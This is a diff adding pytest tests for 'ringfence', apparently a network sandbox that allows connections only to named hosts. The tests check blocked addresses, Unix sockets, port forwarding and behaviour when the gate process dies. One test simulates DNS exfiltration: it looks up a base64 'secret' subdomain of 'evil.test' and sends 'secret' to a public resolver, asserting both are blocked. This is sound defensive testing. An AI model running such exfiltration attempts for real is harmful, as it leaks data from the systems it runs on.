@@ -1,0 +1,457 @@
+"""Programs that know no proxy: each connection is judged by name, and what was dialled is handed in.
+
+Everything here runs for real: ringfence in a mount namespace whose /etc/hosts has names for servers of this process.
+"""
+
+import contextlib
+import json
+import os
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tests.network.conftest import Echo, Web, listener
+
+pytestmark = [pytest.mark.needs_userns, pytest.mark.needs_landlock(6)]
+PYTHON = "/usr/bin/python3"
+ROOT = os.geteuid() == 0
+# A plain user gets a user namespace to mount in, in which he is root.
+UNSHARE = ["unshare", "--mount"] if ROOT else ["unshare", "--user", "--map-root-user", "--mount"]
+NAMES = "127.0.0.1 localhost good.test other.test bad.test db.test\n"
+
+
+class World:
+    """A workspace, and the names that the host knows."""
+
+    def __init__(self, base: Path) -> None:
+        self.base = base
+        self.workspace = base / "ws"
+        self.workspace.mkdir()
+        self.hosts = base / "hosts"
+        self.hosts.write_text(NAMES)
+        (base / "home").mkdir()
+
+    def words(self, argv: list[str], allowed: tuple[str, ...], *options: str) -> list[str]:
+        flags = [word for one in allowed for word in ("--allow-host", one)]
+        ringfence = [sys.executable, "-m", "ringfence", "run", "--as-root", "--workspace", str(self.workspace)]
+        script = 'mount --bind "$0" /etc/hosts && exec "$@"'
+        return [*UNSHARE, "sh", "-c", script, str(self.hosts), *ringfence, *flags, *options, "--", *argv]
+
+    def environ(self) -> dict[str, str]:
+        return {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(self.base / "home"), "LANG": "C.UTF-8"}
+
+    def run(self, argv: list[str], *allowed: str, options: tuple[str, ...] = ()) -> dict[str, Any]:
+        done = subprocess.run(
+            self.words(argv, allowed, "--json", *options), cwd=self.workspace, env=self.environ(),
+            stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=50,
+        )  # fmt: skip
+        assert done.stdout, done.stderr
+        outcome: dict[str, Any] = json.loads(done.stdout)
+        return outcome
+
+    def python(self, program: str, *allowed: str) -> str:
+        """What a program prints; it ends well."""
+        outcome = self.run([PYTHON, "-I", "-S", "-c", PREAMBLE + program], *allowed)
+        assert outcome["exitCode"] == 0, outcome
+        said: str = outcome["stdout"]
+        return said
+
+
+PREAMBLE = """
+import errno, os, select, socket, struct, sys, threading
+def attempt(call):
+    try:
+        return call()
+    except OSError as error:
+        return errno.errorcode.get(error.errno, str(error))
+"""
+
+
+@pytest.fixture
+def world() -> Iterator[World]:
+    with tempfile.TemporaryDirectory(dir="/var/tmp") as base:
+        yield World(Path(base))
+
+
+def test_an_allowed_name_is_reached_and_no_other(world: World, echo: Echo) -> None:
+    program = f"""
+def say(host, port):
+    with socket.create_connection((host, port), 10) as sock:
+        sock.sendall(b"hello")
+        return sock.recv(5).decode()
+for host, port in [("good.test", {echo.port}), ("other.test", {echo.port}), ("good.test", 1),
+                   ("127.0.0.1", {echo.port}), ("198.18.0.77", {echo.port}), ("1.2.3.4", {echo.port}),
+                   ("::ffff:127.0.0.1", {echo.port})]:
+    try:
+        print(host, port, say(host, port))
+    except socket.gaierror:
+        print(host, port, "unknown")
+    except OSError as error:
+        print(host, port, errno.errorcode[error.errno])
+"""
+    said = world.python(
+        program, f"good.test:{echo.port}", f"127.0.0.2:{echo.port}", "good.test:1", f"[::1]:{echo.port}"
+    )
+
+    # The name is allowed and leads to a loopback address that nobody named.
+    assert [line.split()[-1] for line in said.splitlines()] == [
+        "EACCES", "unknown", "EACCES", "ECONNREFUSED", "EACCES", "EACCES", "ECONNREFUSED",
+    ]  # fmt: skip
+    assert echo.count == 0
+    said = world.python(program, f"good.test:{echo.port}", f"127.0.0.1:{echo.port}")
+    assert said.splitlines()[0] == f"good.test {echo.port} hello"
+    assert said.splitlines()[3] == f"127.0.0.1 {echo.port} hello"  # named itself, so it has a port inside
+
+
+@pytest.mark.needs_root
+def test_root_dials_for_the_owner_as_the_owner(world: World, web: Web) -> None:
+    for path in (world.workspace, world.base / "home"):
+        os.chown(path, 65534, 65534)
+    world.base.chmod(0o755)
+    fetch = f"curl -sS -m 10 http://good.test:{web.port}/x"
+    script = f"id -u; head -1 /etc/hosts; getent hosts $(hostname) > /dev/null && {fetch}; sleep 1; echo"
+    words = ["sh", "-c", script]
+    process = subprocess.Popen(
+        world.words(words, ("good.test", f"127.0.0.1:{web.port}")), cwd=world.workspace, env=world.environ(),
+        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    assert process.stdout
+    assert [process.stdout.readline() for _ in range(2)] == ["65534\n", "127.0.0.1 localhost\n"]
+    deadline = time.monotonic() + 10
+    while not web.seen and time.monotonic() < deadline:
+        time.sleep(0.01)
+    gates = [pid for pid in children(process.pid) if b"ringfence.gate" in Path(f"/proc/{pid}/cmdline").read_bytes()]
+    status = Path(f"/proc/{gates[0]}/status").read_text()
+
+    assert process.stdout.read() == f"GET /x good.test:{web.port} \n"
+    process.wait()
+    process.stdout.close()
+    assert "Uid:\t65534\t65534\t65534\t65534" in status
+
+
+def test_a_closed_port_refuses_as_it_does_outside(world: World, closed_port: int) -> None:
+    port = closed_port
+
+    assert world.python(
+        f"""
+sock = socket.socket()
+print(attempt(lambda: sock.connect(("good.test", {port}))))
+sock.setblocking(False)
+print(attempt(lambda: sock.connect(("good.test", {port}))))
+print(bool(select.select([], [sock], [], 5)[1]), errno.errorcode[sock.getsockopt(1, socket.SO_ERROR)])
+""",
+        "good.test",
+        f"127.0.0.1:{port}",
+    ).split() == ["ECONNREFUSED", "EINPROGRESS", "True", "ECONNREFUSED"]
+
+
+def test_a_socket_is_after_connecting_what_it_was_before(world: World, echo: Echo) -> None:
+    said = world.python(
+        f"""
+sock = socket.socket()
+sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
+sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 77)
+sock.settimeout(None)
+number = sock.fileno()
+os.set_inheritable(number, True)
+sock.connect(("good.test", {echo.port}))
+print(number == sock.fileno(), os.get_inheritable(number), os.get_blocking(number))
+print(*(sock.getsockopt(*one) for one in ((6, 1), (1, 9), (6, 4))))
+print(sock.getpeername()[1] == {echo.port}, sock.family.name)
+print(attempt(lambda: sock.connect(("good.test", {echo.port}))))
+six = socket.socket(socket.AF_INET6)
+six.setblocking(False)
+place = "::ffff:" + socket.gethostbyname("good.test")
+print(attempt(lambda: six.connect((place, {echo.port}))), os.get_inheritable(six.fileno()), six.getblocking())
+select.select([], [six], [], 5)
+print(six.getsockopt(1, socket.SO_DOMAIN) == socket.AF_INET6, six.getpeername()[1] == {echo.port})
+""",
+        "good.test",
+        f"127.0.0.1:{echo.port}",
+    )
+
+    assert said.splitlines() == [
+        "True True True",
+        "1 1 77",
+        "True AF_INET",
+        "EISCONN",
+        "EINPROGRESS False False",
+        "True True",
+    ]
+
+
+def test_threads_and_many_at_once(world: World, echo: Echo) -> None:
+    said = world.python(
+        f"""
+place = (socket.gethostbyname("good.test"), {echo.port})
+good = []
+def work():
+    for _ in range(5):
+        with socket.create_connection(place, 20) as sock:
+            sock.sendall(b"x" * 1000)
+            got = 0
+            while got < 1000:
+                got += len(sock.recv(1000))
+            good.append(got)
+threads = [threading.Thread(target=work) for _ in range(40)]
+[thread.start() for thread in threads]
+[thread.join() for thread in threads]
+print(len(good))
+""",
+        "good.test",
+        f"127.0.0.1:{echo.port}",
+    )
+
+    assert (said, echo.count) == ("200\n", 200)
+
+
+def test_a_socket_that_was_handed_in_becomes_nothing_else(world: World, echo: Echo) -> None:
+    """Disconnected or half closed and made to listen, it would be a listener of the host's (KERNEL.md, tried)."""
+    said = world.python(
+        f"""
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def call(name, *arguments):
+    return errno.errorcode[ctypes.get_errno()] if getattr(libc, name)(*arguments) < 0 else "done"
+unspec = struct.pack("H14x", socket.AF_UNSPEC)
+for half in (False, True):
+    sock = socket.socket()
+    sock.connect(("good.test", {echo.port}))
+    if half:
+        sock.shutdown(socket.SHUT_RDWR)
+        sock.recv(1)
+    fd = sock.fileno()
+    print(call("connect", fd, unspec, 16), call("listen", fd, 5), call("bind", fd, struct.pack("H14x", 2), 16))
+    again = socket.socket()
+    again.setblocking(False)
+    attempt(lambda: again.connect(("good.test", {echo.port})))
+    again.shutdown(socket.SHUT_RDWR)
+    print(call("listen", again.fileno(), 5), call("connect", again.fileno(), unspec, 16))
+print(call("connect", fd, struct.pack("!HH4s8x", 0x0200, {echo.port}, bytes((127, 0, 0, 1))), 16))
+""",
+        "good.test",
+        f"127.0.0.1:{echo.port}",
+    )
+
+    assert "done" not in said
+
+
+def test_servers_of_the_run_talk_among_themselves_and_nobody_else_reaches_them(world: World) -> None:
+    said = world.python(
+        """
+for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
+    server = socket.socket(family)
+    server.bind((address, 0))
+    server.listen()
+    client = socket.create_connection((address, server.getsockname()[1]), 5)
+    peer, _ = server.accept()
+    peer.sendall(b"hi")
+    print(client.recv(2).decode(), attempt(lambda: socket.create_connection((address, 1), 5)))
+udp, other = socket.socket(type=socket.SOCK_DGRAM), socket.socket(type=socket.SOCK_DGRAM)
+udp.bind(("127.0.0.1", 0))
+other.connect(udp.getsockname())
+other.send(b"datagram")
+print(udp.recv(10).decode())
+print(attempt(lambda: other.connect((socket.gethostbyname("good.test"), 443))))
+""",
+        "good.test",
+    )
+
+    assert said.splitlines() == ["hi ECONNREFUSED", "hi ECONNREFUSED", "datagram", "ENETUNREACH"]
+
+
+def test_a_full_backlog_keeps_the_caller_waiting_and_nobody_else(world: World, echo: Echo) -> None:
+    said = world.python(
+        f"""
+server = socket.socket()
+server.bind(("127.0.0.1", 0))
+server.listen(0)
+held = [socket.socket() for _ in range(6)]
+def wait(sock):
+    attempt(lambda: sock.connect(server.getsockname()))
+for sock in held:
+    threading.Thread(target=wait, args=(sock,), daemon=True).start()
+with socket.create_connection(("good.test", {echo.port}), 10) as sock:
+    sock.sendall(b"x")
+    print(sock.recv(1).decode())
+os._exit(0 if not sys.stdout.flush() else 1)
+""",
+        "good.test",
+        f"127.0.0.1:{echo.port}",
+    )
+
+    assert said == "x\n"
+
+
+def test_unix_sockets_of_the_run_work_and_those_of_the_host_do_not(world: World) -> None:
+    (world.base / "seen").mkdir()
+    outside = world.base / "seen" / "outside.sock"
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind(str(outside))
+        server.listen()
+        outside.chmod(0o777)
+        program = f"""
+held = []
+for place in ("/tmp/s", "s", "\\0abstract"):
+    server = socket.socket(socket.AF_UNIX)
+    held.append(server)
+    server.bind(place)
+    server.listen()
+    client = socket.socket(socket.AF_UNIX)
+    print(attempt(lambda: client.connect(place)))
+os.symlink("s", "link")
+os.symlink({str(outside)!r}, "leaves")
+for place in ("link", "./link", {str(outside)!r}, "leaves", "/proc/self/cwd/leaves", "missing", "/etc/passwd"):
+    client = socket.socket(socket.AF_UNIX)
+    print(place.rpartition("/")[2], attempt(lambda: client.connect(place)))
+"""
+        words = [PYTHON, "-I", "-S", "-c", PREAMBLE + program]
+        said = world.run(words, "good.test", options=("--allow-read", str(outside.parent)))["stdout"]
+        allowed = world.run(
+            [
+                PYTHON,
+                "-I",
+                "-S",
+                "-c",
+                PREAMBLE + f"print(attempt(lambda: socket.socket(1).connect({str(outside)!r})))",
+            ],
+            options=("--allow-socket", str(outside)),
+        )
+
+    assert said.splitlines() == [
+        "None", "None", "None",
+        "link None", "link None", "outside.sock EACCES", "leaves EACCES", "leaves EACCES", "missing ENOENT",
+        "passwd ECONNREFUSED",
+    ]  # fmt: skip
+    assert allowed["stdout"] == "None\n", allowed
+
+
+def test_a_forwarded_port_leads_in_and_no_other(world: World) -> None:
+    free, closed = listener(), listener()
+    port, other = (sock.getsockname()[1] for sock in (free, closed))
+    free.close()
+    closed.close()
+    program = f"""
+servers = [socket.create_server(("127.0.0.1", port)) for port in ({port}, {other})]
+print("ready", flush=True)
+for _ in range(3):
+    client, _ = servers[0].accept()
+    client.sendall(client.recv(5))
+    client.close()
+servers[1].setblocking(False)
+print(attempt(servers[1].accept))
+"""
+    words = world.words([PYTHON, "-I", "-S", "-c", PREAMBLE + program], (), "--forward", str(port))
+    process = subprocess.Popen(
+        words, cwd=world.workspace, env=world.environ(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True
+    )
+    assert process.stdout
+    assert process.stdout.readline() == "ready\n"
+    for _ in range(3):
+        with socket.create_connection(("127.0.0.1", port), 10) as sock:
+            sock.sendall(b"hello")
+            assert sock.recv(5) == b"hello"
+        with contextlib.suppress(ConnectionRefusedError):  # whoever may listen there now
+            socket.create_connection(("127.0.0.1", other), 10).close()
+
+    assert (process.stdout.read(), process.wait(10)) == ("EAGAIN\n", 0)
+    process.stdout.close()
+
+
+def test_when_the_gate_dies_nothing_is_reached_and_the_outcome_says_so(world: World, echo: Echo) -> None:
+    program = f"""
+import time
+sock = socket.create_connection(("good.test", {echo.port}), 10)
+print("ready", flush=True)
+sys.stdin.readline()
+print(attempt(lambda: socket.create_connection((sys.argv[1] if len(sys.argv) > 1 else "198.18.0.5", {echo.port}), 10)))
+sock.sendall(b"x")
+print(sock.recv(1).decode())
+"""
+    words = world.words([PYTHON, "-I", "-S", "-c", PREAMBLE + program], ("good.test", f"127.0.0.1:{echo.port}"))
+    process = subprocess.Popen(
+        words, cwd=world.workspace, env=world.environ(), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    assert process.stdout
+    assert process.stdin
+    assert process.stdout.readline() == "ready\n"
+    gates = [pid for pid in children(process.pid) if b"ringfence.gate" in Path(f"/proc/{pid}/cmdline").read_bytes()]
+    assert len(gates) == 1
+    os.kill(gates[0], 9)
+    while Path(f"/proc/{gates[0]}/cmdline").read_bytes():
+        time.sleep(0.01)
+    out, err = process.communicate("\n", timeout=20)
+
+    assert out.split() == ["ENETDOWN", "x"]  # what stood stands: no byte passes the gate
+    assert "the process that dials for the run has ended" in err
+
+
+def children(pid: int) -> list[int]:
+    found = [int(word) for word in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
+    return found + [below for child in found for below in children(child)]
+
+
+def test_a_web_server_is_read_by_name(world: World, web: Web) -> None:
+    outcome = world.run(
+        ["curl", "-sS", "--max-time", "10", f"http://good.test:{web.port}/x"], "good.test", f"127.0.0.1:{web.port}"
+    )
+
+    assert outcome["stdout"] == f"GET /x good.test:{web.port} "
+
+
+def test_the_proxies_are_there_for_who_asks_for_them(world: World, web: Web) -> None:
+    url = f"http://good.test:{web.port}/x"
+    for proxy in ("http://127.0.0.1:3128", "socks5h://127.0.0.1:1080", "socks5://127.0.0.1:1080"):
+        words = ["curl", "-sS", "--max-time", "10", "--proxy", proxy, url]
+
+        assert world.run(words, "good.test", f"127.0.0.1:{web.port}")["stdout"] == f"GET /x good.test:{web.port} "
+
+
+def test_no_name_leaves_by_asking_for_it(world: World) -> None:
+    """DNS exfiltration: the host's resolver is never asked for a name that is not allowed, nor for one that is, until
+    somebody connects."""
+    asked = []
+    server = socket.socket(type=socket.SOCK_DGRAM)
+    server.bind(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    thread = threading.Thread(target=lambda: asked.append(_heard(server)))
+    thread.start()
+    said = world.python(
+        f"""
+def lookup(name):
+    try:
+        return socket.gethostbyname(name)[:5]
+    except socket.gaierror as error:
+        return "unknown"
+print(lookup("c2VjcmV0.evil.test"), lookup("good.test"))
+for place in (("127.0.0.1", {server.getsockname()[1]}), ("8.8.8.8", 53), ("198.18.0.1", 53)):
+    print(attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", place)))
+""",
+        "good.test",
+    )
+    thread.join()
+    server.close()
+
+    assert said.splitlines()[0] == "unknown 198.1"
+    assert said.splitlines()[2:] == ["ENETUNREACH", "ENETUNREACH"]
+    assert asked == [False]
+
+
+def _heard(server: socket.socket) -> bool:
+    deadline = time.monotonic() + 1
+    while time.monotonic() < deadline:
+        try:
+            server.recv(100)
+        except TimeoutError:
+            continue
+        return True
+    return False
